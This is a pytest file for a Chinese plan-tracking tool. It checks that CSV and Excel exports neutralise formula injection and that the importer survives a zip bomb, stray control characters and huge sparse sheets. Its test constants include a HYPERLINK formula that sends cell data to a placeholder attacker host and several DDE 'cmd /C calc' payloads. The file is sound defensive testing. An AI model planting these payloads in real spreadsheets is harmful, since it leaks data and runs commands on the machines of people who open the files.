"""Spreadsheet formula injection: text from the plan or a filing that starts with = + - @ must
stay text in every CSV and workbook tracker writes (the site's downloads, `tracker status
--format csv`, `tracker export --xlsx`, `tracker new --xlsx`), and come back unchanged through
`tracker import`."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from tracker.cli import cli

EVIL_TARGET = '=HYPERLINK("https://evil.example.invalid/?"&A1,"点此")'
EVIL_UNIT = "+cmd|' /C calc'!A0"
EVIL_TASK = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_SUMMARY = "=1+2"
EVIL_NOTE = "-2+3+cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


@pytest.fixture
def evil_repo(base_repo: Path) -> Path:
    def sub(rel: str, old: str, new: str) -> None:
        file = base_repo / rel
        text = file.read_text("utf-8")
        assert old in text
        file.write_text(text.replace(old, new, 1), "utf-8")

    sub("plan/targets.yaml", "title: 村级服务站", f"title: {json.dumps(EVIL_TARGET)}")
    sub("plan/units.yaml", "name: 东区人民政府\n    short: 东区", f"name: {json.dumps(EVIL_UNIT)}\n    short: {json.dumps(EVIL_UNIT)}")
    sub("plan/tasks.yaml", "title: 建设服务站", f"title: {json.dumps(EVIL_TASK)}")
    sub("submissions/east/2024-Q2.yaml", "summary: 新建一个服务站", f"summary: {json.dumps(EVIL_SUMMARY)}")
    sub("submissions/east/2024-Q2.yaml", "    value: 3\n", f"    value: 3\n    note: {json.dumps(EVIL_NOTE)}\n")
    assert run("validate").exit_code == 0
    return base_repo


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_status_csv_neutralises_formulas(evil_repo: Path) -> None:
    result = run("status", "--format", "csv", "--as-of", "2024-06-30")
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout)
    bad = [c for c in cells if c.startswith(DANGEROUS)]
    assert not bad, bad
    assert "'" + EVIL_TARGET in cells  # the text is kept, behind Excel's text marker


def test_site_csv_download_neutralises_formulas(evil_repo: Path, tmp_path: Path) -> None:
    from tests.site_helpers import build

    out = tmp_path / "site"
    build(evil_repo, out, date(2024, 6, 30), provenance=False)
    cells = _csv_cells((out / "downloads/status-2024-06-30.csv").read_text("utf-8"))
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    _assert_no_formula(out / "downloads/status-2024-06-30.xlsx")


def _assert_no_formula(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(DANGEROUS):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
    return texts


def test_export_xlsx_keeps_formula_text_as_text(evil_repo: Path) -> None:
    result = run("export", "--xlsx", "out.xlsx", "--as-of", "2024-06-30")
    assert result.exit_code == 0, result.output
    texts = _assert_no_formula(evil_repo / "out.xlsx")
    assert EVIL_TARGET in texts and EVIL_UNIT in texts  # exactly the plan's words


def test_fill_in_workbook_round_trips_formula_like_text(evil_repo: Path) -> None:
    result = run("new", "--unit", "east", "--period", "2024-Q2", "--xlsx", "修订.xlsx")
    assert result.exit_code == 0, result.output
    texts = _assert_no_formula(evil_repo / "修订.xlsx")
    assert EVIL_SUMMARY in texts and EVIL_NOTE in texts
    wb = openpyxl.load_workbook(evil_repo / "修订.xlsx")
    wb["基本信息"]["B11"] = "复核"
    wb["任务"]["D7"] = "推进中"  # S.1, not in the filing yet
    wb["任务"]["E7"] = "按计划推进"  # its 进展情况 (required)
    wb.save(evil_repo / "修订.xlsx")
    result = run("import", "修订.xlsx", "--amend")
    assert result.exit_code == 0, result.output
    data = yaml.safe_load((evil_repo / "submissions/east/2024-Q2.yaml").read_text("utf-8"))
    assert data["tasks"]["1.1"]["summary"] == EVIL_SUMMARY
    assert data["targets"]["stations"]["note"] == EVIL_NOTE


def test_control_characters_in_a_filing_do_not_break_the_workbooks(base_repo: Path, tmp_path: Path) -> None:
    # YAML's double-quoted escapes can put characters into a filing that a workbook cannot hold
    # (C0 controls; U+FFFE and U+FFFF, which are not XML); the filing is valid, so the site's
    # download, export and the fill-in workbook must cope.
    from tests.site_helpers import build

    file = base_repo / "submissions/east/2024-Q2.yaml"
    file.write_text(file.read_text("utf-8").replace(
        "summary: 新建一个服务站", 'summary: "新建\\0一个\\e[31m服务站\\v\\uffff"').replace(
        "    value: 3\n", '    value: 3\n    note: "\\b\\f说明\\ufffe"\n', 1), "utf-8")
    assert run("validate").exit_code == 0
    result = run("export", "--xlsx", "out.xlsx", "--as-of", "2024-06-30")
    assert result.exit_code == 0, result.output
    texts = _assert_no_formula(base_repo / "out.xlsx")
    assert any("新建一个[31m服务站" in t for t in texts)
    build(base_repo, tmp_path / "site", date(2024, 6, 30), provenance=False)
    result = run("new", "--unit", "east", "--period", "2024-Q2", "--xlsx", "修订.xlsx")
    assert result.exit_code == 0, result.output
    texts = _assert_no_formula(base_repo / "修订.xlsx")
    assert "新建一个[31m服务站" in texts and "说明" in texts


def _form(root: Path) -> Path:
    result = run("new", "--unit", "east", "--period", "2024-Q3", "--xlsx", "填报.xlsx",
                 "--reported-on", "2024-10-05")
    assert result.exit_code == 0, result.output
    return root / "填报.xlsx"


def test_a_workbook_with_a_far_away_cell_is_read_quickly(
    base_repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # One cell in the last row of a sheet made the importer walk (and create) a million rows:
    # 45 s and 3.7 GB for a 10 KB file. Asserted by the work done, not by a clock: the
    # importer touches only the cells the sheet has.
    from openpyxl.worksheet.worksheet import Worksheet

    book = _form(base_repo)
    wb = openpyxl.load_workbook(book)
    wb["指标"]["A1048576"] = "x"
    wb["任务"]["XFD1048576"] = "y"
    wb.save(book)
    touched = 0
    original = Worksheet.cell

    def counting_cell(self, *args, **kwargs):  # type: ignore[no-untyped-def]
        nonlocal touched
        touched += 1
        return original(self, *args, **kwargs)

    monkeypatch.setattr(Worksheet, "cell", counting_cell)
    result = run("import", "填报.xlsx")
    assert touched < 10_000, f"the importer touched {touched:,} cells"
    assert result.exit_code == 1, result.output
    assert "填报.xlsx!指标!A1048576" in result.output
    assert "填报.xlsx!任务!XFD1048576" in result.output
    assert not (base_repo / "submissions/east/2024-Q3.yaml").exists()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(base_repo: Path) -> None:
    import zipfile

    book = _form(base_repo)
    data = zipfile.ZipFile(book)
    bomb = base_repo / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for info in data.infolist():
            out.writestr(info, data.read(info.filename))
        out.writestr("xl/media/padding.bin", b"\0" * (200 * 1024 * 1024))
    assert bomb.stat().st_size < 2 * 1024 * 1024
    result = run("import", "bomb.xlsx")
    assert result.exit_code == 2, result.output
    assert "解压后" in result.output
    assert "Traceback" not in result.output


def test_unusual_line_breaks_survive_the_round_trip(base_repo: Path) -> None:
    # YAML reads NEL (U+0085) and the Unicode line/paragraph separators inside a quoted scalar
    # as line breaks and folds them; the filing must hold exactly what the cell held.
    book = _form(base_repo)
    text = "第一行\u2028第二行\x85第三\u2029第四 \"引号\" # 井号 \\ 反斜杠"
    wb = openpyxl.load_workbook(book)
    wb["指标"]["D5"], wb["指标"]["D6"] = 3, 1
    wb["任务"]["D7"] = "推进中"
    wb["任务"]["E5"], wb["任务"]["E6"], wb["任务"]["E7"] = text, "x", "y"
    wb.save(book)
    result = run("import", "填报.xlsx")
    assert result.exit_code == 0, result.output
    from tracker.yamlio import load_file

    doc, problems = load_file(base_repo / "submissions/east/2024-Q3.yaml", "f")
    assert doc is not None and not problems
    assert doc.data["tasks"]["1.1"]["summary"] == text
